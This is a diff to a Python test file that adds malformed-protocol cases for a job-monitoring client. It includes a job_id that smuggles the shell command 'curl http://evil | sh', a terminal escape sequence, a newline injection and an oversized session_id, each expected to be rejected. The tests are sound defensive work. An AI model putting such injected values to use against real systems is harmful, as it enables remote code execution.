@@ -119,6 +119,13 @@ MALFORMED = [
     ("exit-code-bool", envelope(exit_status={"status": False}), ProtocolError, "not a number"),
     ("monitor-list", envelope(job_monitor=[JOB_ID]), ProtocolError, "wrong type"),
     ("job-id-number", envelope(job_monitor={"job_id": 17}), ProtocolError, "not a string"),
+    ("job-id-shell", envelope(job_monitor={"job_id": "x; curl http://evil | sh #",
+                                           "session_id": SESSION_ID}), ProtocolError, "malformed job_id"),
+    ("job-id-escape", envelope(job_monitor={"job_id": "\x1b]0;owned\x07" + JOB_ID}), ProtocolError,
+     "malformed job_id"),
+    ("session-id-newline", envelope(job_monitor={"job_id": JOB_ID, "session_id": "S\nmmoda: done"}),
+     ProtocolError, "malformed session_id"),
+    ("session-id-huge", envelope(session_id="A" * 100_000), ProtocolError, "malformed session_id"),
     ("products-list", envelope(products=[1, 2]), ProtocolError, "wrong type"),
     ("product-list-not-list", envelope(products={"numpy_data_product_list": 3}), ProtocolError,
      "not a list"),
@@ -133,6 +140,7 @@ def test_malformed_answer(client, proxy, name, body, error, match):
     assert isinstance(result, error), result
     assert re.search(match, str(result)), str(result)
     assert len(str(result)) < 2000
+    assert "curl" not in str(result) and "\x1b" not in str(result)
 
 
 @pytest.mark.parametrize("field", ["message", "error_message", "debug_message"])
